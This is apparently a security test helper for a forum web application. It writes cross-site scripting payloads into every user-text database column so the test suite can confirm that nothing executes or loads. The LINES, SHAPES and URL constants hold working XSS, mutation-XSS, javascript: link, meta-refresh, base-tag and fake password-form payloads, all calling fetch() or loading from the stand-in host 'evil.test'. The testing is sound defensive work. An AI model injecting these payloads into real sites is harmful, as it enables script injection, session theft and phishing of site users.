"""Words that run, load or break out wherever a page forgets to escape, in every text that the database keeps.

Each payload asks HOST, which is not ours, for a path that names the column or the form it lay in: whatever runs or
loads is a request that the browser reports. Where nothing runs without a click, ``tests/documents.py`` looks at the
elements.
"""

from __future__ import annotations

from contextlib import suppress
from datetime import timedelta
from fnmatch import fnmatch
from typing import Any

import sqlalchemy as sa

from forum.accounts.models import Person
from forum.concerns.models import (
    Concern,
    ConcernPicture,
    DutyEntry,
    DutyKind,
    DutyStep,
    IdentityReading,
    Note,
)
from forum.core import clock
from forum.core.db import UTCDateTime, Word
from forum.core.markdown import render
from forum.discussions.models import (
    Draft,
    Forum,
    Post,
    PostPicture,
    PostState,
    Revision,
    Topic,
    TopicTag,
    VeilLifting,
)
from forum.discussions.operations.polls import start_poll
from forum.discussions.operations.states import set_state
from forum.events.models import AccessNeed, ActionItem, EventMessage, Feedback, Occurrence, Verdict
from forum.extensions import db
from tests.factories import discussions
from tests.factories.site import Everything

HOST = "evil.test"
# The first that a place has room for; each closes whatever it may stand in. A link that is one of them would run.
LINES = (
    "javascript:fetch('//{at}')//'\"></title></textarea></script><img src=//{at} onerror=fetch(src)>",
    "javascript:'\"></title></script><img src=//{at}>",
    "'\"></script><img src=//{at}>",
    "'\"><i onx=1>",
)
SHAPES = (
    LINES[0],
    "<script src=//{at}></script><script>fetch('//{at}')</script>",
    "<svg/onload=fetch('//{at}')><math><mtext></form><form><mglyph><style></math><img src onerror=fetch('//{at}')>",
    "<iframe srcdoc=\"<script>fetch('//{at}')</script>\"></iframe><iframe src=//{at}></iframe><object data=//{at}>",
    "<style>*{{background:url(//{at})}}</style><p style='color:red'>x</p><link rel=stylesheet href=//{at}>",
    "</script><script>fetch('//{at}')</script> \\u003c/script> ]]><img src=//{at}> --><img src=//{at}>",
    "<base href=//{at}><meta http-equiv=refresh content='0;url=//{at}'><form action=//{at}><input name=password>",
    "[x](javascript:fetch('//{at}')) [x](java\tscript:1) [x](&#106;avascript:1) <javascript:1> [x](vbscript:1)",
    "[x](data:text/html,<script>fetch('//{at}')</script>) ![x](//{at}) ![x](javascript:1) ![x\" onerror=\"1](https://{at})",
    "[x](https://{at}/\"onmouseover=\"1) https://{at}/\"onmouseover=\"1 [x](https://{at} \"a\\\" onmouseover=\\\"1\")",
    "```html\"><script>fetch('//{at}')</script>\n<img src=//{at}>\n```",
    "| <img src=//{at}> |\n|---|\n| <svg onload=fetch('//{at}')> |",
    "\" autofocus onfocus=\"fetch('//{at}')\" x=\"",
    "' autofocus onfocus='fetch(\"//{at}\")' x='",
    "x onclick=fetch('//{at}') y",
    "@<img src=//{at}> #<img src=//{at}> &lt;img src=//{at}&gt; &#60;img src=//{at}&#62; {{{{ 7*7 }}}} ${{7*7}}",
)  # fmt: skip
# Columns that hold nobody's words, by why.
EXCUSED = {
    "made by the site, of letters and digits": (
        "*.slug", "*_hash", "*.nonce", "*.uid", "*.follows_uid", "*.known_uid", "*.reference", "*.path",
        "*.vevents_made", "moderation_case.code", "event_message.token", "ledger_seal.hash", "event.picture",
        "concern_picture.name", "post_picture.name",
    ),
    "a number that a form brings back, shown to nobody": ("*.key",),
    "a word of the code's": (
        "*.kind", "*.language", "*.audience", "*.about_kind", "*.official_role", "*.month", "post_draft.place",
        "post_picture.place",
        "*.items", "*.agreed", "event.zone", "job_tick.name", "ledger_entry.act", "ledger_entry.subject_kind",
        "*.held_by", "notification.failure",
    ),
    "numbers and words of the code's (their models say so)": ("*.detail",),
    "numbers": ("neighborhood.boundary", "neighborhood.outline", "neighborhood.locator", "neighborhood.sketch",
                "event.rrule", "event.extra_starts", "event.skipped_starts"),
    "made of the others when they are written": ("search_entry.*", "search_list.*", "*.search_text"),
    "takes neither an angle bracket nor a quotation mark (see the test of addresses)": ("*email", "*.email_folded"),
    "a name that a decision set aside, and puts back": ("person.hidden_name",),
    "cannot be changed once written: it is hostile from the start": ("duty_entry.*",),
}  # fmt: skip
URL = "https://{at}/'\"><img src=//{at} onerror=fetch(src)>"  # a field that takes web addresses alone
MADE = {"post": ("text", "html"), "minutes": ("text", "html"), "event": ("story", "story_html")}


def line(at: str, most: int = 10_000) -> str:
    """One line of at most *most* characters that asks for *at*."""
    words = (shape.format(at=f"{HOST}/{at}") for shape in LINES)
    return next(found for found in words if len(found) <= most)


def text(at: str) -> str:
    """All shapes, a paragraph each."""
    return "\n\n".join(shape.format(at=f"{HOST}/{at}") for shape in SHAPES)


def columns() -> dict[str, sa.Column[Any]]:
    """Every column that may hold words, by ``table.column``. A type that is not known here counts as one."""
    silent = (
        sa.Integer,
        sa.Boolean,
        sa.Float,
        sa.Date,
        sa.Time,
        sa.DateTime,
        sa.LargeBinary,
        UTCDateTime,
        Word,
    )
    html = {f"{table}.{made}" for table, (_source, made) in MADE.items()}
    return {
        name: column
        for table in db.metadata.sorted_tables
        for column in table.c
        if (name := f"{table.name}.{column.name}") not in html
        and not isinstance(column.type, silent)
        and not any(fnmatch(name, pattern) for patterns in EXCUSED.values() for pattern in patterns)
    }


def further(site: Everything) -> None:
    """A row in each table that ``everything`` leaves empty."""
    date = db.session.scalars(
        sa.select(Occurrence).where(Occurrence.event_id == site.values["event_id"])
    ).first()
    kept = {each.reference: each.id for each in db.session.scalars(sa.select(Concern))}
    concern, named = (kept[site.values[name]] for name in ("reference", "confidential"))
    at = {"concern_id": concern, "reference": site.values["reference"], "kind": next(iter(DutyKind))}
    told = {"told": line("duty", 200), "text": text("duty")[:1000], "by_name": line("duty", 120)}
    assert date is not None
    for post in ("post_id", "staff_post_id"):  # by staff: their edits are shown to everybody
        db.session.add(Revision(post_id=site.values[post], number=1, text="Words.", by_staff=True))
    db.session.add_all((
        Draft(person_id=site.people["resident"], place=f"topic {site.values['topic_id']}", text="Words."),
        Draft(person_id=site.people["resident"], place=f"forum {site.values['forum_id']}", text="Words."),
        TopicTag(topic_id=site.values["topic_id"], word="lamps"),
        VeilLifting(post_id=site.values["veiled_post_id"], reader_id=site.people["reviewer"], reason="Words."),
        EventMessage(event_id=date.event_id, occurrence_id=date.id, token="x", subject="Words.", text="Words.",
                     audience=["going"], recipients=1),
        *(Feedback(key=f"x{n}", occurrence_id=date.id, worth=Verdict.YES, heard=Verdict.YES) for n in range(5)),
        AccessNeed(rsvp_id=site.values["rsvp_id"], step_free=True),
        Note(id=1, concern_id=concern, text="Words."),
        PostPicture(post_id=site.values["post_id"], name="x.jpg", alt="A lamp.", width=9, height=9),
        ConcernPicture(id=1, concern_id=concern, name="x.jpg"),
        IdentityReading(concern_id=named, reader_id=site.people["supervisor"], reason="A life is in danger."),
        *(DutyEntry(**at, **told, step=step) for step in list(DutyStep)[:2]),
    ))  # fmt: skip
    db.session.execute(sa.update(ActionItem).values(done_on=clock.today()))
    db.session.get_one(Post, site.values["post_id"]).pictures_count = 1
    talk = db.session.get_one(Topic, site.values["topic_id"])
    talk.slow_seconds, talk.slow_ends_at = 60, clock.now() + timedelta(days=1)
    locked = discussions.topic(talk.forum)
    locked.locked = True
    site.values["locked"] = f"/topics/{locked.id}-{locked.slug}"
    _waiting(site, talk.forum)
    db.session.flush()


def _waiting(site: Everything, forum: Forum) -> None:
    """A topic of the resident's whose first post waits, with its title and a poll: both are theirs to change."""
    author = db.session.get_one(Person, site.people["resident"])
    topic = discussions.topic(forum, author=author)
    start_poll(actor=author, topic=topic, question="A bump?", options=["Yes", "No"])
    first = db.session.scalars(discussions.posts_of(topic)).one()
    set_state(topic, first, PostState.HELD)
    site.values |= {"held": f"/posts/{first.id}/edit", "held_poll": f"/topics/{topic.id}/poll/edit"}


def spoil() -> dict[str, str]:
    """Fill every such column of every row that may have it; returns the path by which each filled column is known."""
    filled: dict[str, str] = {}
    for number, (name, column) in enumerate(sorted(columns().items())):
        for key in rows(column.table):
            values = {column.name: _words(column, key, f"c{number}")}
            if column.table.name in MADE and column.name == MADE[column.table.name][0]:
                values[MADE[column.table.name][1]] = render(values[column.name])
            with suppress(sa.exc.IntegrityError), db.session.begin_nested():
                # Left as it is where a row may have no such words: an answer of somebody with an account has no name.
                db.session.execute(sa.update(column.table).where(*_is(column.table, key)).values(values))
                filled[name] = f"c{number}"
    return filled


def rows(table: sa.Table) -> list[tuple[Any, ...]]:
    """The keys of its rows."""
    return [tuple(row) for row in db.session.execute(sa.select(*table.primary_key))]


def _is(table: sa.Table, key: tuple[Any, ...]) -> list[sa.ColumnElement[bool]]:
    return [column == value for column, value in zip(table.primary_key, key, strict=True)]


def _words(column: sa.Column[Any], key: tuple[Any, ...], mark: str) -> Any:
    at = f"{mark}/{'-'.join(str(part) for part in key if isinstance(part, int))}"
    if column.name == "online_url":
        return URL.format(at=f"{HOST}/{at}")
    if isinstance(column.type, sa.JSON):
        kept = db.session.scalar(sa.select(column).where(*_is(column.table, key)))
        return _leaves(kept, at)
    most = getattr(column.type, "length", None)
    return text(at) if most is None else line(at, most)


def _leaves(value: Any, at: str) -> Any:
    if isinstance(value, dict):
        return {name: _leaves(inner, at) for name, inner in value.items()}
    if isinstance(value, list):
        return [_leaves(inner, at) for inner in value]
    return line(at, 100) if isinstance(value, str) else value
